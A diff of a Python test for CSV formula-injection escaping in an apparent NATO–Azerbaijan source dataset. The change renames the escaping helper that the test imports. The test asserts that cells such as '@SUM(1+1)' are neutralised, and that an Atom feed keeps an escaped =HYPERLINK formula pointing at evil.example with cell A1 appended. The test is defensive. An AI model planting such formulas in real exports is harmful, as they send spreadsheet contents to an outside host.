@@ -223,9 +223,9 @@ def test_csv_cells_cannot_be_formulas_and_json_stays_exact(mini: Path) -> None:
     assert rows["news-speech"]["title"] == "'" + title
     assert rows["news-speech"]["author"] == "'@SUM(1+1)"
     assert rows["news-speech"]["publisher"] == "'-2+3"
-    from natoaz.render.downloads import neutral_cell  # tab and CR cannot reach a one-line field, but still:
+    from natoaz.render.escape import csv_cell  # tab and CR cannot reach a one-line field, but still:
 
-    assert [neutral_cell(c) for c in ("\tx", "\rx", "+1", "a=b", "")] == ["'\tx", "'\rx", "'+1", "a=b", ""]
+    assert [csv_cell(c) for c in ("\tx", "\rx", "+1", "a=b", "")] == ["'\tx", "'\rx", "'+1", "a=b", ""]
     records = {r["id"]: r for r in json.loads(files["downloads/nato-azerbaijan.json"])["records"]["sources"]}
     assert records["news-speech"]["title"] == title and records["news-speech"]["publisher"] == "-2+3"
     assert "source: =HYPERLINK(\"https://evil.example/?\"&amp;A1" in files["feed.xml"]  # Atom: exact, escaped
